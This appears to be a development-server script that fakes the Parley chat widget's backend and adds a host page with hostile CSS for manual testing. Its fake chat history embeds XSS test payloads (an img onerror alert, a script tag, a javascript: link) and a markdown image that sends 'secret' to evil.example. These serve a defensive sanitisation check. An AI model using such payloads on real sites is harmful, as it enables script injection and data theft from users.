// A development server for trying the widget by hand, with no Parley backend: serves dist/ and a
// fake widget + chat API on Parley's origin (http://127.0.0.1:PORT) under the same strict CSP the
// real frame page gets, and a host page with the snippet on a second origin (http://localhost:PORT+1).
//   npm run build && node scripts/dev-server.mjs [PORT]
import { createServer } from 'node:http';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const dist = fileURLToPath(new URL('../dist/', import.meta.url));
const port = Number(process.argv[2] || 8790);
const parley = `http://127.0.0.1:${port}`, site = `http://localhost:${port + 1}`;
const manifest = JSON.parse(readFileSync(join(dist, 'manifest.json'), 'utf8'));

const HISTORY = [
  { id: 'u0', role: 'USER', content: 'How do I back up Parley?' },
  { id: 'm0', role: 'ASSISTANT', rating: 1, content: 'One command each **backs it up** and *restores* it [1]:\n\n```sh\nparley backup --out /srv/backup\n```\n\n- stop nothing first\n- keep the `data/` folder [2]\n\nSee [the guide](https://example.com/ops#backup). <img src=x onerror=alert(1)> ![leak](https://evil.example/?q=secret) [bad](javascript:alert(1))',
    sources: [{ n: 1, title: 'docs/operations.md <script>alert(1)</script>', section: 'Backup and restore', page: null, url: null }, { n: 2, title: 'Operations', url: 'https://example.com/ops#data' }] },
];

const json = (res, status, body) => { res.writeHead(status, { 'Content-Type': 'application/json' }); res.end(JSON.stringify(body)); };
let sessions = 0;

createServer((req, res) => {
  const url = new URL(req.url, parley);
  const p = url.pathname;
  if (p === '/embed.js' || /^\/widget\/app\.[0-9a-f]+\.(js|css)$/.test(p)) {
    const file = p === '/embed.js' ? 'embed.js' : p.slice('/widget/'.length);
    res.writeHead(200, { 'Content-Type': file.endsWith('.css') ? 'text/css' : 'text/javascript' });
    return res.end(readFileSync(join(dist, file)));
  }
  if (p === '/widget/frame') {
    res.writeHead(200, {
      'Content-Type': 'text/html; charset=utf-8',
      'Content-Security-Policy': `default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self'; frame-ancestors ${site}; base-uri 'none'; form-action 'none'`,
    });
    return res.end(`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><script src="/widget/${manifest.app}" defer></script></head><body><parley-chat></parley-chat></body></html>`);
  }
  if (p === '/api/v1/widget/config') return json(res, 200, { botId: 'b1', name: 'Parley Demo', color: url.searchParams.get('color') || '#4f46e5', welcomeMessage: 'Hi! I answer from **Parley\'s docs**.', starterQuestions: ['How do I back up Parley?', 'Which LLMs work?'], language: 'en', position: 'right', theme: 'auto' });
  if (p === '/api/v1/widget/sessions' && req.method === 'POST') return json(res, 200, { token: 'h.p.s' + ++sessions, expiresAt: new Date(Date.now() + 3600e3).toISOString(), conversationId: 'c' + sessions, visitorId: 'v1' });
  if (/^\/api\/v1\/conversations\/[^/]+\/messages$/.test(p) && req.method === 'GET') return json(res, 200, p.includes('/c1/') ? HISTORY : []);
  if (/^\/api\/v1\/conversations\/[^/]+\/messages$/.test(p)) {
    res.writeHead(200, { 'Content-Type': 'text/event-stream' });
    res.write('event:sources\ndata:' + JSON.stringify({ sources: HISTORY[1].sources }) + '\n\n');
    const words = 'Backups are **one command** [1]; restores too [2].'.split(/(?<= )/);
    let i = 0;
    const t = setInterval(() => {
      if (i < words.length) return res.write('event:delta\ndata:' + JSON.stringify({ text: words[i++] }) + '\n\n');
      clearInterval(t);
      res.end('event:done\ndata:' + JSON.stringify({ messageId: 'm' + Date.now() }) + '\n\n');
    }, 60);
    return;
  }
  if (/^\/api\/v1\/messages\/[^/]+\/feedback$/.test(p)) { res.writeHead(204); return res.end(); }
  json(res, 404, { error: 'not found' });
}).listen(port, '127.0.0.1');

createServer((req, res) => {
  const u = new URL(req.url, site);
  const attrs = [...u.searchParams].map(([k, v]) => ` data-${k.replace(/[^a-z]/g, '')}="${v.replace(/[^\w#-]/g, '')}"`).join('');
  res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
  res.end(`<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Host page</title>
<style>*{all:unset!important} body{display:block!important;background:#fafafa!important;font:40px serif!important} button,iframe,div{filter:invert(1)!important;transform:rotate(3deg)!important} parley-launcher{display:none} :host{display:none!important}</style></head>
<body><h1>A host page with hostile CSS</h1><p>The widget should look the same as anywhere else.</p>
<script src="${parley}/embed.js" data-bot="pk_demo"${attrs} async></script></body></html>`);
}).listen(port + 1, '127.0.0.1');

console.log(`Parley (fake) ${parley}\nHost page     ${site}/   (try ?open=true&color=%23ffff00&lang=de&position=left)`);
